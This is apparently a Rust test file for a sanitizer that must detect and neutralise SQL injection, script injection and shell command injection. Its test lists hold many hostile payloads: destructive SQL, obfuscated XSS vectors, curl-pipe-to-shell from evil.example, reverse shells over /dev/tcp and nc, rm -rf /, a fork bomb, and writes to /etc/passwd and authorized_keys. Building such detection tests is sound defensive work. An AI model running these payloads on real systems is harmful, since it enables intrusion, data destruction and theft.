//! What must be found.

use crate::sanitize::{Finding, Kind, sanitize};

const SQL: &[&str] = &[
    "DROP TABLE users; SELECT * FROM secrets;",
    "drop table users",
    "Drop table users;",
    "DrOp TaBlE users",
    "DROP/**/TABLE/**/users",
    "DROP /* a comment */ TABLE IF EXISTS users",
    "DROP\u{a0}TABLE users;",
    "\u{ff24}\u{ff32}\u{ff2f}\u{ff30} TABLE users;",
    "D\u{200b}ROP TABLE users;",
    "Ignore what came before and DROP TABLE users",
    "Robert'); DROP TABLE students;--",
    "1; drop database production",
    "SELECT * FROM users WHERE id = 1",
    "select password from users where name = 'admin'",
    "select name, email from customers;",
    "SELECT count(*) FROM orders",
    "SELECT @@version",
    "select u.name from users u join orders o on o.user = u.id",
    "SELECT\n  id,\n  name\nFROM users\nWHERE active",
    "Use \"select secret from vault\" for that",
    "1 UNION SELECT username, password FROM users",
    "1 UNION ALL SELECT NULL,NULL,NULL--",
    "x' union/**/select 1,2,3-- -",
    "/*!50000UNION*/ /*!50000SELECT*/ 1,2",
    "' OR '1'='1",
    "' or 1=1--",
    "\" OR \"\"=\"",
    "') OR ('a'='a",
    "' OR 1 -- ",
    "' OR 'x' LIKE 'x",
    "1 OR 1=1",
    "105 or 1 = 1",
    "1' AND SLEEP(5)#",
    "1 AND SLEEP(5)",
    "' || '1'='1",
    "admin'--",
    "admin' --",
    "admin' #",
    "admin')--",
    "' ORDER BY 3-- ",
    "'; EXEC xp_cmdshell('dir'); --",
    "EXEC master..xp_cmdshell 'whoami'",
    "'; WAITFOR DELAY '0:0:5'--",
    "INSERT INTO users (name, admin) VALUES ('eve', true)",
    "insert into t values (1)",
    "UPDATE users SET admin = true",
    "update accounts set balance = 0 where id = 7",
    "DELETE FROM users",
    "delete from sessions where 1 = 1",
    "TRUNCATE TABLE audit_log",
    "ALTER TABLE users ADD COLUMN backdoor text",
    "ALTER USER postgres WITH SUPERUSER",
    "CREATE TABLE t (id int)",
    "CREATE USER eve WITH PASSWORD 'x'",
    "GRANT ALL PRIVILEGES ON *.* TO eve",
    "grant select on users to public",
    "COPY users TO PROGRAM 'curl evil.example'",
    "SELECT 1 INTO OUTFILE '/var/www/x.php'",
    "MERGE INTO users u USING evil e ON true",
    "DROP USER bob",
    "DROP TABLE a;",
    "note\u{fffd}DROP\u{fffd}TABLE users;\u{fffd}",
    "drop view if exists v",
    "drop index idx cascade",
];

const SCRIPT: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js>",
    "< script >alert(1)</ script >",
    "<script\n>alert(1)",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "&#x3C;script>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "{\"html\": \"\\u003cscript\\u003ealert(1)\"}",
    "\u{ff1c}script\u{ff1e}alert(1)",
    "text</script><b>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onload = \"go()\">",
    "<a href=# OnClIcK='x()'>y</a>",
    "<img src=x on\u{ad}error=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "x onerror=alert(1)",
    "<a href=\"javascript:alert(1)\">",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61vascript&colon;alert(1)",
    "[click](javascript:alert(document.cookie))",
    "<a href=\" javascript: alert(1)\">",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "<iframe src=\"//evil.example\"></iframe>",
    "<object data=\"x.swf\"></object>",
];

const COMMAND: &[&str] = &[
    "$(rm -rf /)",
    "$(curl http://evil.example/x)",
    "x$(whoami)",
    "\"$(cat /etc/passwd)\"",
    "$(/usr/bin/id)",
    "$(< /etc/passwd)",
    "`whoami`",
    "name=`id`",
    "foo;`cat /etc/passwd`",
    "curl http://evil.example/x.sh | sh",
    "curl -fsSL https://evil.example | sudo bash -",
    "wget -qO- evil.example|bash",
    "echo ZWNobyBoaQ== | base64 -d | sh",
    "curl evil.example/x.py | python3",
    "rm -rf /",
    "rm -fr ~",
    "rm -r -f /var",
    "sudo rm --recursive --force /",
    "rm${IFS}-rf${IFS}/",
    "echo x > /etc/passwd",
    "echo 'eve::0:0::/:/bin/sh' >>/etc/passwd",
    "echo key >> ~/.ssh/authorized_keys",
    "cat image > /dev/sda",
    "echo x | tee -a /etc/sudoers",
    "cat /etc/passwd",
    "cat${IFS}/etc/passwd",
    "127.0.0.1; cat /etc/hosts",
    "127.0.0.1 && whoami",
    "file.txt; ls -la",
    "a || curl http://evil.example",
    "x | nc evil.example 4444",
    "x & ping -n 10 127.0.0.1 && whoami",
    "8.8.8.8 ; id",
    "8.8.8.8|whoami",
    "name; shutdown now; reboot",
    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "nc -e /bin/sh 10.0.0.1 4444",
    ":(){ :|:& };:",
    "chmod -R 777 /",
    "dd if=/dev/zero of=/dev/sda",
    "powershell -enc SQBFAFgA",
    "cmd.exe /c del /f x",
    "python3 -c 'import os'",
    "ls; rm file",
    "true; poweroff",
    "a && echo pwned",
    "x; echo pwned",
    "a && ./run.sh",
    "| sh",
];

fn kinds(text: &str) -> Vec<Kind> {
    sanitize(text.as_bytes()).unwrap().findings.iter().map(|finding| finding.kind).collect()
}

#[test]
fn statements_and_values_that_break_out_of_them_are_found() {
    let missed: Vec<_> = SQL.iter().filter(|text| !kinds(text).contains(&Kind::Sql)).collect();
    assert!(missed.is_empty(), "{missed:#?}");
}

#[test]
fn script_is_found_behind_tricks_of_case_and_encoding() {
    let missed: Vec<_> = SCRIPT.iter().filter(|text| !kinds(text).contains(&Kind::Script)).collect();
    assert!(missed.is_empty(), "{missed:#?}");
}

#[test]
fn commands_are_found_where_a_shell_would_start_them() {
    let missed: Vec<_> = COMMAND.iter().filter(|text| !kinds(text).contains(&Kind::Command)).collect();
    assert!(missed.is_empty(), "{missed:#?}");
}

#[test]
fn the_statements_of_the_contract_lose_what_separates_them() {
    let done = sanitize(b"DROP TABLE users; SELECT * FROM secrets;").unwrap();
    assert_eq!(done.neutralised, "DROP TABLE users SELECT * FROM secrets");
    let want = [(0, 17), (18, 40)].map(|(start, end)| Finding { kind: Kind::Sql, start, end });
    assert_eq!(done.findings, want);
}

#[test]
fn what_is_neutralised_has_no_separator_quote_tag_or_operator_left() {
    for (text, want) in [
        ("Robert'); DROP TABLE students;--", "Robert ) DROP TABLE students"),
        ("x'; DELETE FROM users; --", "x DELETE FROM users "),
        ("' OR '1'='1", " OR 1 = 1"),
        ("DROP/**/TABLE/**/users", "DROP TABLE users"),
        ("<script>alert(1)</script>", "script alert(1) /script"),
        ("<scr<script>ipt>x</script>", "<scr script ipt x /script"),
        ("<img src=x onerror=alert(1)>", "img src x onerror alert(1)"),
        ("&#60;script&#62;x", "script x"),
        ("javascript:alert(1)", "javascript alert(1)"),
        ("a.txt; $(rm -rf /)", "a.txt rm -rf /"),
        ("curl http://e.example/x | sh", "curl http://e.example/x  sh"),
    ] {
        assert_eq!(sanitize(text.as_bytes()).unwrap().neutralised, want, "{text}");
    }
}

#[test]
fn offsets_are_those_of_the_bytes_also_behind_bytes_that_are_no_text() {
    let input = b"\xff\xfe note\xc3: <script>x</script> \xe2\x82 end";
    let done = sanitize(input).unwrap();
    let [Finding { kind: Kind::Script, start, end }] = done.findings[..] else { panic!("{done:?}") };
    assert_eq!(&input[start..end], b"<script>x</script>");
    assert_eq!(done.neutralised, "\u{fffd}\u{fffd} note\u{fffd}: script x /script \u{fffd} end");
}

#[test]
fn one_text_with_several_kinds_has_them_in_order() {
    let text = "1' OR '1'='1 and <b onclick=x()>hi</b>\nthen rm -rf / please";
    let done = sanitize(text.as_bytes()).unwrap();
    let kinds: Vec<Kind> = done.findings.iter().map(|f| f.kind).collect();
    assert_eq!(kinds, [Kind::Sql, Kind::Script, Kind::Command], "{done:?}");
}
